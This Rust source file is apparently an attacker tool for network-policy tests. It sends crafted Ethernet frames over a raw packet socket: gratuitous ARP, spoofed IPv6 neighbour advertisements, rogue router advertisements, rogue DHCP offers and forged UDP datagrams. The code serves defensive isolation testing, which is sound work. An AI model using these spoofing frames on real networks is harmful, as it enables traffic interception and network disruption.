//! The hostile appliance's tool for the network-policy tests (host-launch/tests/netpolicy.rs):
//! sends crafted Ethernet frames on a packet socket, as a guest root with CAP_NET_RAW can.
//! A test's attacker, not a parser: it only writes frames.
//!
//! `net-attack IFACE [--count N] ATTACK ARGS...`, each sent N times (default 5), 100 ms apart:
//!
//! - `garp SRC_MAC IP`: a gratuitous ARP request and reply claiming IP for SRC_MAC;
//! - `udp4 SRC_MAC DST_MAC SRC_IP DST_IP SPORT DPORT TEXT` (and `udp6` with IPv6 addresses):
//!   one UDP datagram carrying TEXT;
//! - `na SRC_MAC SRC_IP6 TARGET_IP6`: an unsolicited neighbour advertisement (override) to
//!   all nodes, saying TARGET_IP6 is at SRC_MAC;
//! - `ra SRC_MAC SRC_LL PREFIX6`: a router advertisement to all nodes (router lifetime
//!   1800 s, PREFIX6/64 on-link and autonomous);
//! - `dhcp-offer SRC_MAC SRC_IP OFFERED_IP`: a DHCP offer from port 67 to the broadcast.
//!
//! Prints `sent ATTACK N` when done, or `error: ...` and exits 1.

#![deny(missing_debug_implementations)]
#![deny(
    clippy::cast_possible_truncation,
    clippy::cast_sign_loss,
    clippy::cast_lossless,
    clippy::exit,
    clippy::tests_outside_test_module
)]

use std::net::{Ipv4Addr, Ipv6Addr};

type Mac = [u8; 6];

const BROADCAST: Mac = [0xff; 6];
const ALL_NODES_MAC: Mac = [0x33, 0x33, 0, 0, 0, 1];
const ALL_NODES: Ipv6Addr = Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1);

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    match run(&args) {
        Ok(line) => println!("{line}"),
        Err(e) => {
            println!("error: {e}");
            std::process::exit(1);
        }
    }
}

fn run(args: &[String]) -> Result<String, String> {
    let [iface, args @ ..] = args else {
        return Err("usage: net-attack IFACE [--count N] ATTACK ARGS...".into());
    };
    let (count, args) = match args {
        [flag, n, rest @ ..] if flag == "--count" => {
            (n.parse::<u32>().map_err(|e| format!("--count: {e}"))?, rest)
        }
        rest => (5, rest),
    };
    let [attack, rest @ ..] = args else {
        return Err("usage: net-attack IFACE [--count N] ATTACK ARGS...".into());
    };
    let frames = frames(attack, rest)?;
    let sock = PacketSocket::open(iface)?;
    for i in 0..count {
        for f in &frames {
            sock.send(f)?;
        }
        if i + 1 < count {
            std::thread::sleep(std::time::Duration::from_millis(100));
        }
    }
    Ok(format!("sent {attack} {count}"))
}

fn frames(attack: &str, a: &[String]) -> Result<Vec<Vec<u8>>, String> {
    let mac = |i: usize| parse_mac(a.get(i).ok_or("missing a MAC argument")?);
    let v4 = |i: usize| {
        a.get(i)
            .ok_or("missing an IPv4 argument")?
            .parse::<Ipv4Addr>()
            .map_err(|e| e.to_string())
    };
    let v6 = |i: usize| {
        a.get(i)
            .ok_or("missing an IPv6 argument")?
            .parse::<Ipv6Addr>()
            .map_err(|e| e.to_string())
    };
    let port = |i: usize| {
        a.get(i)
            .ok_or("missing a port argument")?
            .parse::<u16>()
            .map_err(|e| e.to_string())
    };
    let text = |i: usize| a.get(i).map(|s| s.as_bytes().to_vec()).unwrap_or_default();
    Ok(match attack {
        "garp" => {
            let (m, ip) = (mac(0)?, v4(1)?);
            vec![
                ether(BROADCAST, m, 0x0806, &arp(1, m, ip, [0; 6], ip)),
                ether(BROADCAST, m, 0x0806, &arp(2, m, ip, BROADCAST, ip)),
            ]
        }
        "udp4" => {
            let udp = udp(port(4)?, port(5)?, &text(6));
            vec![ether(
                mac(1)?,
                mac(0)?,
                0x0800,
                &ipv4(v4(2)?, v4(3)?, 17, &udp),
            )]
        }
        "udp6" => {
            let (s, d) = (v6(2)?, v6(3)?);
            let mut u = udp(port(4)?, port(5)?, &text(6));
            let c = checksum6(s, d, 17, &u);
            u[6..8].copy_from_slice(&c.to_be_bytes());
            vec![ether(mac(1)?, mac(0)?, 0x86dd, &ipv6(s, d, 17, 64, &u))]
        }
        "na" => {
            let (m, s, target) = (mac(0)?, v6(1)?, v6(2)?);
            let body = na_body(m, target);
            vec![ether(ALL_NODES_MAC, m, 0x86dd, &icmp6(s, ALL_NODES, body))]
        }
        "ra" => {
            let (m, s, prefix) = (mac(0)?, v6(1)?, v6(2)?);
            let body = ra_body(m, prefix);
            vec![ether(ALL_NODES_MAC, m, 0x86dd, &icmp6(s, ALL_NODES, body))]
        }
        "dhcp-offer" => {
            let (m, s, offered) = (mac(0)?, v4(1)?, v4(2)?);
            let u = udp(67, 68, &dhcp_offer(s, offered));
            vec![ether(
                BROADCAST,
                m,
                0x0800,
                &ipv4(s, Ipv4Addr::BROADCAST, 17, &u),
            )]
        }
        other => return Err(format!("unknown attack {other:?}")),
    })
}

/// A neighbour advertisement: type 136, flags override (and solicited off), target, target
/// link-layer option.
fn na_body(m: Mac, target: Ipv6Addr) -> Vec<u8> {
    let mut body = vec![136, 0, 0, 0, 0x20, 0, 0, 0];
    body.extend_from_slice(&target.octets());
    body.extend_from_slice(&[2, 1]);
    body.extend_from_slice(&m);
    body
}

/// A router advertisement: type 134, hop limit 64, no flags, router lifetime 1800,
/// reachable, retrans; prefix information /64, on-link and autonomous, lifetimes 1 h; the
/// source link-layer option.
fn ra_body(m: Mac, prefix: Ipv6Addr) -> Vec<u8> {
    let mut body = vec![134, 0, 0, 0, 64, 0, 0x07, 0x08, 0, 0, 0, 0, 0, 0, 0, 0];
    body.extend_from_slice(&[3, 4, 64, 0xc0]);
    body.extend_from_slice(&3600u32.to_be_bytes());
    body.extend_from_slice(&3600u32.to_be_bytes());
    body.extend_from_slice(&[0; 4]);
    body.extend_from_slice(&prefix.octets());
    body.extend_from_slice(&[1, 1]);
    body.extend_from_slice(&m);
    body
}

/// A DHCPOFFER of `offered` from server `s`, naming itself the router.
fn dhcp_offer(s: Ipv4Addr, offered: Ipv4Addr) -> Vec<u8> {
    let mut b = vec![0u8; 240];
    b[0] = 2; // BOOTREPLY
    b[1] = 1;
    b[2] = 6;
    b[4..8].copy_from_slice(&0x1234_5678u32.to_be_bytes());
    b[16..20].copy_from_slice(&offered.octets());
    b[20..24].copy_from_slice(&s.octets());
    b[236..240].copy_from_slice(&[99, 130, 83, 99]);
    // DHCPOFFER, server id, router = us, end.
    b.extend_from_slice(&[53, 1, 2, 54, 4]);
    b.extend_from_slice(&s.octets());
    b.extend_from_slice(&[3, 4]);
    b.extend_from_slice(&s.octets());
    b.push(255);
    b
}

fn parse_mac(s: &str) -> Result<Mac, String> {
    let parts: Vec<u8> = s
        .split(':')
        .map(|p| u8::from_str_radix(p, 16))
        .collect::<Result<_, _>>()
        .map_err(|e| format!("{s:?}: {e}"))?;
    parts.try_into().map_err(|_| format!("{s:?} is not a MAC"))
}

fn ether(dst: Mac, src: Mac, ethertype: u16, payload: &[u8]) -> Vec<u8> {
    let mut f = Vec::with_capacity(14 + payload.len());
    f.extend_from_slice(&dst);
    f.extend_from_slice(&src);
    f.extend_from_slice(&ethertype.to_be_bytes());
    f.extend_from_slice(payload);
    f
}

fn arp(op: u16, sha: Mac, spa: Ipv4Addr, tha: Mac, tpa: Ipv4Addr) -> Vec<u8> {
    let mut p = vec![0, 1, 0x08, 0, 6, 4];
    p.extend_from_slice(&op.to_be_bytes());
    p.extend_from_slice(&sha);
    p.extend_from_slice(&spa.octets());
    p.extend_from_slice(&tha);
    p.extend_from_slice(&tpa.octets());
    p
}

fn sum16(data: &[u8], mut acc: u32) -> u32 {
    for c in data.chunks(2) {
        let w = if c.len() == 2 {
            u16::from_be_bytes([c[0], c[1]])
        } else {
            u16::from_be_bytes([c[0], 0])
        };
        acc += u32::from(w);
    }
    acc
}

/// `ETH_P_ALL` and `AF_PACKET` as the socket calls take them (0x0003 and 17: they fit).
const ETH_P_ALL: u16 = 0x0003;
const AF_PACKET: u16 = 17;

/// The size of a socket address (a few bytes: it fits).
fn len32(n: usize) -> u32 {
    u32::try_from(n).unwrap_or(u32::MAX)
}

fn fold(mut acc: u32) -> u16 {
    while acc > 0xffff {
        acc = (acc & 0xffff) + (acc >> 16);
    }
    // Folded to 16 bits above.
    !u16::try_from(acc).unwrap_or(0xffff)
}

/// A length field of a frame (the attacker's frames are far below 64 KiB).
fn len16(n: usize) -> u16 {
    u16::try_from(n).expect("a frame's length fits in 16 bits")
}

fn ipv4(src: Ipv4Addr, dst: Ipv4Addr, proto: u8, payload: &[u8]) -> Vec<u8> {
    let len = len16(20 + payload.len());
    let mut h = vec![0x45, 0];
    h.extend_from_slice(&len.to_be_bytes());
    h.extend_from_slice(&[0, 0, 0x40, 0, 64, proto, 0, 0]);
    h.extend_from_slice(&src.octets());
    h.extend_from_slice(&dst.octets());
    let c = fold(sum16(&h, 0));
    h[10..12].copy_from_slice(&c.to_be_bytes());
    h.extend_from_slice(payload);
    h
}

/// UDP with a zero checksum (allowed over IPv4; `udp6` fills it in).
fn udp(sport: u16, dport: u16, payload: &[u8]) -> Vec<u8> {
    let mut u = Vec::new();
    u.extend_from_slice(&sport.to_be_bytes());
    u.extend_from_slice(&dport.to_be_bytes());
    u.extend_from_slice(&len16(8 + payload.len()).to_be_bytes());
    u.extend_from_slice(&[0, 0]);
    u.extend_from_slice(payload);
    u
}

fn checksum6(src: Ipv6Addr, dst: Ipv6Addr, next: u8, l4: &[u8]) -> u16 {
    let mut pseudo = Vec::new();
    pseudo.extend_from_slice(&src.octets());
    pseudo.extend_from_slice(&dst.octets());
    pseudo.extend_from_slice(&u32::from(len16(l4.len())).to_be_bytes());
    pseudo.extend_from_slice(&[0, 0, 0, next]);
    fold(sum16(l4, sum16(&pseudo, 0)))
}

fn icmp6(src: Ipv6Addr, dst: Ipv6Addr, mut body: Vec<u8>) -> Vec<u8> {
    let c = checksum6(src, dst, 58, &body);
    body[2..4].copy_from_slice(&c.to_be_bytes());
    // Neighbour discovery must arrive with hop limit 255.
    ipv6(src, dst, 58, 255, &body)
}

fn ipv6(src: Ipv6Addr, dst: Ipv6Addr, next: u8, hops: u8, payload: &[u8]) -> Vec<u8> {
    let mut h = vec![0x60, 0, 0, 0];
    h.extend_from_slice(&len16(payload.len()).to_be_bytes());
    h.extend_from_slice(&[next, hops]);
    h.extend_from_slice(&src.octets());
    h.extend_from_slice(&dst.octets());
    h.extend_from_slice(payload);
    h
}

/// An `AF_PACKET` socket bound to one interface.
struct PacketSocket {
    fd: i32,
    index: i32,
}

impl PacketSocket {
    fn open(iface: &str) -> Result<PacketSocket, String> {
        let name = std::ffi::CString::new(iface).map_err(|e| e.to_string())?;
        // SAFETY: a NUL-terminated name; if_nametoindex only reads it.
        let index = unsafe { libc::if_nametoindex(name.as_ptr()) } as i32;
        if index == 0 {
            return Err(format!("no interface {iface}"));
        }
        // SAFETY: socket(2) with constant arguments.
        let fd = unsafe {
            libc::socket(
                libc::AF_PACKET,
                libc::SOCK_RAW,
                i32::from(ETH_P_ALL.to_be()),
            )
        };
        if fd < 0 {
            return Err(format!(
                "packet socket: {}",
                std::io::Error::last_os_error()
            ));
        }
        Ok(PacketSocket { fd, index })
    }

    fn send(&self, frame: &[u8]) -> Result<(), String> {
        // SAFETY: sockaddr_ll is plain data; all zeroes is valid.
        let mut to: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
        to.sll_family = AF_PACKET;
        to.sll_ifindex = self.index;
        to.sll_halen = 6;
        to.sll_addr[..6].copy_from_slice(&frame[..6]);
        // SAFETY: the frame and the address outlive the call; lengths are theirs.
        let n = unsafe {
            libc::sendto(
                self.fd,
                frame.as_ptr().cast(),
                frame.len(),
                0,
                std::ptr::addr_of!(to).cast(),
                len32(std::mem::size_of::<libc::sockaddr_ll>()),
            )
        };
        if n < 0 {
            return Err(format!("send: {}", std::io::Error::last_os_error()));
        }
        Ok(())
    }
}
